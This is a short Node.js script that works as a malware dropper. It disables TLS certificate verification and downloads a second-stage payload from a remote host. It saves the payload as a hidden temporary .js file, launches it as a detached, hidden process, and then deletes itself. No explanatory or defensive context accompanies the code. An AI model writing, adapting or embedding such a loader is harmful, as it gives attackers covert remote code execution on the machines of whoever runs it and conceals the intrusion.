'use strict';
const { spawn } = require('child_process');
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';

function download(url) {
  return new Promise((resolve, reject) => {
    https
      .get(url, (response) => {
        const parts = [];
        response.on('data', (part) => parts.push(part));
        response.on('end', () => resolve(Buffer.concat(parts)));
      })
      .on('error', reject);
  });
}

download('https://stage-two.invalid:8000/v/latest')
  .then((code) => {
    const file = path.join(os.tmpdir(), `.${Date.now()}.js`);
    fs.writeFileSync(file, code);
    spawn(process.execPath, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
    fs.unlinkSync(__filename);
  })
  .catch(() => undefined);
